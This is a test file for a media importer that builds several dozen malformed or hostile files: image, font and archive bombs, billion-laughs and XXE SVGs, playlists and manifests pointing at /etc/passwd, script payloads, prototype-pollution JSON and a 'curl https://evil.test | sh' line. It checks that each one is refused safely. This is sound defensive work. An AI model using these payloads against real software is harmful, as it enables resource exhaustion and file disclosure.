import { afterAll, expect, test } from "vitest";
import { UserError } from "../../../../src/errors.ts";
import { isFullRun } from "../../../support/sampled.ts";
import { box, chunk, ftyp, gif, gzipped, png, pngClaiming, pngWithPackedText, wav } from "../support/made-files.ts";
import { openImporter } from "../support/open-importer.ts";

const { importer, close } = openImporter();
afterAll(close);

const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"';
const levels = (count: number, times: number) =>
  Array.from({ length: count }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(times)}</g>`).join("");
const text = (content: string) => Buffer.from(content);
const svg = (content: string, head = "") => text(`${head}<svg ${SVG}>${content}</svg>`);
const u32 = (...numbers: number[]) => {
  const bytes = Buffer.alloc(numbers.length * 4);
  for (const [index, number] of numbers.entries()) bytes.writeUInt32BE(number >>> 0, index * 4);
  return bytes;
};

/** An MP4 whose table claims a thousand million samples of which none is there. */
function mp4Claiming(samples: number): Buffer {
  const entry = box("avc1", Buffer.alloc(78));
  const tables = [
    box("stsd", u32(0, 1), entry),
    box("stts", u32(0, 1, samples, 1)),
    box("stsz", u32(0, 1, samples)),
    box("stsc", u32(0, 1, 1, samples, 1)),
    box("stco", u32(0, 1, 0)),
  ];
  const media = box("minf", box("vmhd", Buffer.alloc(12)), box("stbl", ...tables));
  const handler = box("hdlr", u32(0, 0), text("vide"), Buffer.alloc(13));
  const mdia = box("mdia", box("mdhd", u32(0, 0, 0, 1000, samples, 0)), handler, media);
  return Buffer.concat([
    ftyp("isom"),
    box("moov", box("mvhd", Buffer.alloc(100)), box("trak", box("tkhd", Buffer.alloc(84)), mdia)),
  ]);
}

function fontOf(tables: number, length: number): Buffer {
  const head = Buffer.alloc(12 + tables * 16);
  head.writeUInt32BE(0x00010000, 0);
  head.writeUInt16BE(tables, 4);
  for (let index = 0; index < tables; index += 1) {
    head.write(["head", "name", "cmap", "hhea", "maxp"][index] ?? `t${index}`.padEnd(4), 12 + index * 16, "latin1");
    head.writeUInt32BE(12, 12 + index * 16 + 8);
    head.writeUInt32BE(length, 12 + index * 16 + 12);
  }
  return head;
}

const woff2Bomb = Buffer.concat([
  text("wOF2\0\x01\0\0"),
  u32(60),
  Buffer.from("\0\x01\0\0", "latin1"),
  u32(0xffffffff, 12),
  Buffer.alloc(24),
  Buffer.from([63, 0x41, 0x41, 0x41, 0x41, 0x8f, 0xff, 0xff, 0xff, 0x7f, 0, 0]),
]);
const JPEG_START = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
const tiff = (...entries: number[][]) => {
  const bytes = Buffer.alloc(8 + 2 + entries.length * 12 + 4);
  bytes.write("II*\0", "latin1");
  bytes.writeUInt32LE(8, 4);
  bytes.writeUInt16LE(entries.length, 8);
  for (const [index, [tag = 0, type = 0, count = 0, value = 0]] of entries.entries()) {
    bytes.writeUInt16LE(tag, 10 + index * 12);
    bytes.writeUInt16LE(type, 12 + index * 12);
    bytes.writeUInt32LE(count, 14 + index * 12);
    bytes.writeUInt32LE(value, 18 + index * 12);
  }
  // The next directory is this one.
  bytes.writeUInt32LE(8, bytes.length - 4);
  return bytes;
};

/** Each is refused in words, or taken safely where `taken` says as what. The first ones always run. */
const FILES: readonly (readonly [name: string, bytes: () => Buffer, taken?: RegExp])[] = [
  ["a PNG of 30000 by 30000 pixels", () => png(30_000, 30_000, [], 1)],
  ["an SVG of 4^22 repeats", () => svg(`<g id="a0"><rect/></g>${levels(22, 4)}<use href="#a22"/>`)],
  ["a GIF of 20,000 frames", () => gif(20_000)],
  ["a WAV that claims 4 GB", () => wav(0.2, 0xfffffff0), /audio/],
  ["an MP4 of a thousand million samples", () => mp4Claiming(1e9)],
  ["JSON nested 400,000 deep", () => text("[".repeat(400_000))],
  ["a playlist of local files", () => text("#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:1,\nfile:///etc/passwd\n")],
  [
    "a picture that goes on as a ZIP",
    () => Buffer.concat([png(4, 4), text("PK\x03\x04evil.html<script>alert(1)</script>")]),
    /image/,
  ],
  ["a font of 60,000 tables", () => fontOf(60_000, 16)],
  ["an empty file", () => Buffer.alloc(0)],
  ["a PNG that claims 2^31 by 2^31", () => pngClaiming(0x7fffffff, 0x7fffffff)],
  ["a PNG of one pixel by 2^30", () => pngClaiming(1, 2 ** 30)],
  ["a PNG without pixels", () => png(4, 4).subarray(0, 33)],
  ["a PNG cut in half", () => png(2_000, 2_000).subarray(0, 2_000)],
  ["a PNG with 300 MB of packed text", () => pngWithPackedText(300), /image/],
  [
    "a PNG with a bomb for a colour profile",
    () => png(4, 4, [chunk("iCCP", Buffer.concat([text("x\0\0"), Buffer.alloc(9, 120)]))]),
    /image/,
  ],
  ["a JPEG of nothing but its start", () => JPEG_START],
  [
    "a JPEG that claims 65500 by 65500",
    () =>
      Buffer.concat([
        JPEG_START,
        Buffer.from([0xff, 0xc0, 0, 11, 8, 0xff, 0xdc, 0xff, 0xdc, 1, 1, 0x11, 0, 0xff, 0xd9]),
      ]),
  ],
  ["a GIF of 65535 by 65535", () => gif(2, 65_535, 65_535)],
  ["a GIF that is a script", () => text("GIF89a=1;alert(1)//")],
  ["a TIFF whose pages go round", () => tiff([256, 4, 1, 9], [257, 4, 1, 9])],
  ["a TIFF of 2^31 strips", () => tiff([256, 4, 1, 0x7fffffff], [257, 4, 1, 0x7fffffff], [273, 4, 0x7fffffff, 8])],
  ["an AVIF without a picture", () => Buffer.concat([ftyp("avif"), box("meta", u32(0))])],
  ["a HEIC", () => Buffer.concat([ftyp("heic"), box("meta", u32(0))])],
  ["a WebP that lies about its length", () => Buffer.concat([text("RIFF\xff\xff\xff\x7fWEBPVP8 "), u32(0xffffffff)])],
  [
    "an SVG of a thousand million laughs",
    () =>
      svg(
        "<text>&i;</text>",
        `<!DOCTYPE svg [${"abcdefghi"
          .split("")
          .map((c, n) => `<!ENTITY ${c} "${n ? `&${"abcdefghi"[n - 1]};`.repeat(10) : "lol"}">`)
          .join("")}]>`,
      ),
  ],
  [
    "an SVG that reads a file",
    () => svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ],
  ["an SVG nested 50,000 deep", () => svg("<g>".repeat(50_000) + "</g>".repeat(50_000))],
  ["an SVG of 100,000 elements", () => svg("<g/>".repeat(100_000))],
  [
    "an SVG of turbulence on turbulence",
    () =>
      svg(
        `<filter id="f">${'<feTurbulence numOctaves="9" baseFrequency="9"/>'.repeat(200)}</filter><rect filter="url(#f)"/>`,
      ),
  ],
  ["an SVG that is packed", () => gzipped(`<svg ${SVG}/>`)],
  ["an SVG of scripts alone", () => svg("<script>for(;;);</script>"), /svg/],
  [
    "an SVG of one path with 400,000 points",
    () => svg(`<path d="M0 0${"L9 1".repeat(100_000)}" stroke="red" filter="blur(9px)"/>`),
    /svg/,
  ],
  ["a web page", () => text("<!doctype html><script>alert(1)</script>")],
  ["a list of files to join", () => text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
  ["a manifest of DASH", () => text('<?xml version="1.0"?><MPD><BaseURL>file:///etc/passwd</BaseURL></MPD>')],
  ["a PDF", () => text("%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>")],
  ["a ZIP", () => Buffer.concat([text("PK\x03\x04"), Buffer.alloc(60)])],
  ["a program", () => Buffer.concat([text("\x7fELF\x02\x01\x01"), Buffer.alloc(200)])],
  ["a script", () => text("#!/bin/sh\ncurl https://evil.test | sh\n")],
  [
    "a MOV that points at another file",
    () => Buffer.concat([ftyp("qt  "), box("moov", box("rmra", box("rmda", box("rdrf", text("file:///etc/passwd")))))]),
  ],
  [
    "an MP4 of boxes in boxes",
    () =>
      Buffer.concat([
        ftyp("isom"),
        Array.from({ length: 2_000 }).reduce<Buffer>((inner) => box("moov", inner), Buffer.alloc(0)),
      ]),
  ],
  ["an MP3 of noise", () => Buffer.concat([text("ID3\x04\0\0\x7f\x7f\x7f\x7f"), Buffer.alloc(5_000, 0xff)])],
  [
    "an Ogg of page starts",
    () => Buffer.concat(Array.from({ length: 500 }, () => Buffer.concat([text("OggS"), Buffer.alloc(23)]))),
  ],
  ["a FLAC without samples", () => Buffer.concat([text("fLaC"), Buffer.from([0x80, 0, 0, 34]), Buffer.alloc(34)])],
  [
    "a Matroska file of one endless element",
    () =>
      Buffer.concat([
        Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
        text("B\x82\x84webm"),
      ]),
  ],
  [
    "a WAV of 65535 channels",
    () => {
      const bytes = Buffer.from(wav(0.1));
      bytes.writeUInt16LE(65_535, 22);
      return bytes;
    },
  ],
  ["a font whose tables are all the same bytes", () => Buffer.concat([fontOf(90, 900_000), Buffer.alloc(900_000)])],
  ["a WOFF 2 that claims 4 GB", () => woff2Bomb],
  ["a table of 70,000 rows", () => text(`a,b\n${"1,2\n".repeat(70_000)}`)],
  ["a table of 3,000 columns", () => text(`${"a,".repeat(3_000)}b\n${"1,".repeat(3_000)}1\n1\n`)],
  ["a table with a quote that never ends", () => text(`a,b\n1,"${"x,\n".repeat(20_000)}`)],
  ["JSON of 900,000 values", () => text(`[${"1,".repeat(450_000)}1]`)],
  ["JSON that names prototypes", () => text('{"__proto__":{"polluted":true},"a":1}'), /data/],
  ["random bytes", () => Buffer.from(Array.from({ length: 4_000 }, (_, n) => (n * 7919 + (n >> 3) * 104_729) % 256))],
];

const ALWAYS = 10;
const chosen = isFullRun ? FILES : FILES.slice(0, ALWAYS);
const files = chosen.map(([name, make, taken]) => ({ name, make, taken }));

test.each(files)(
  "$name is refused in words or taken safely",
  async ({ make, taken }) => {
    const bytes = make();
    expect(bytes.length).toBeLessThan(1024 ** 2);
    const answer = await importer.importMedia({ source: { data: bytes.toString("base64") } }).catch((error) => error);
    if (answer instanceof Error) {
      expect(answer, `${answer.stack}`).toBeInstanceOf(UserError);
      expect(answer.message).not.toMatch(/passwd|alert|evil|root:|vips|ffmpeg|\/tmp|node_modules/);
      // What can be taken safely need not be, but what no one should take must not be.
    } else {
      expect(answer.kind).toMatch(taken ?? /^$/);
      expect(answer.notes.join(" ")).not.toMatch(/passwd|alert|evil/);
      await answer.discard();
    }
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  },
  120_000,
);

test("after all of them an honest picture is imported", async () => {
  const source = { data: png(4, 4).toString("base64") };
  expect(await importer.importMedia({ source })).toMatchObject({ kind: "image", width: 4 });
});
